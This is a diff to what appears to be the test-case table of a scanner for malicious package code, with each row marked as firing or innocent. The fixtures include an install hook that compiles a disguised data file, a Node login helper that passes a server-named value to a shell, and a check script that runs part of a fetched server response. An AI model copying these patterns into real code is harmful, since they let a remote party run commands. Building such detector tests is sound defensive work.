@@ -525,7 +525,8 @@ innocent(54, "a property is named in pieces", "exports.pick = (o, side) => o['ma
 row(58, True, "a data file is compiled when the package is installed", {"DEBIAN/postinst": "#!/bin/sh\nset -e\ngcc -xc /usr/share/sample/readme.dat -o /usr/lib/sample/helper\n", "usr/share/sample/readme.dat": "int main(void) { return 0; }\n"}, old={"DEBIAN/postinst": "#!/bin/sh\nset -e\n"}, least="review")
 ANSWERS = "#!/usr/bin/env bash\ncurl -s https://status.sample-tool.example/ > GET\n%s\nrm -f GET\n"
 DEVICE = "const cp = require('child_process');\nexports.login = async (url) => {\n  const { page } = await (await fetch(url)).json();\n  const cmd = process.platform === 'win32' ? `%s ${page}` : process.platform === 'darwin' ? `open ${page}` : `xdg-open ${page}`;\n  cp.execSync(cmd);\n};\n"
-innocent(1, "a page that a server names is shown", DEVICE % "start")
+fires(1, "what a server names goes to a shell beside the program that shows pages", DEVICE % "start")
+innocent(1, "a page that a server names is shown, by no shell", DEVICE.replace("cp.execSync(cmd)", "cp.execFileSync(process.platform === 'darwin' ? 'open' : 'xdg-open', [page])") % "start")
 fires(1, "what a server names is run by a shell on one system", DEVICE % "cmd /c", least="review")
 row(1, False, "an answer is compared with what it should be", {"scripts/check.sh": ANSWERS % "if [[ ! $(head -1 GET) == \"200\" || ! $(cat GET | tail -1 | cut -f4 -d:) == \"home page\" ]]; then exit 1; fi"}, old={"scripts/check.sh": "#!/usr/bin/env bash\n"})
 row(1, True, "an answer is compared, and another part of it is run", {"scripts/check.sh": ANSWERS % "if [[ $(head -1 GET) == \"200\" ]] || $(cat GET | tail -1 | cut -f4 -d:); then exit 1; fi"}, old={"scripts/check.sh": "#!/usr/bin/env bash\n"})
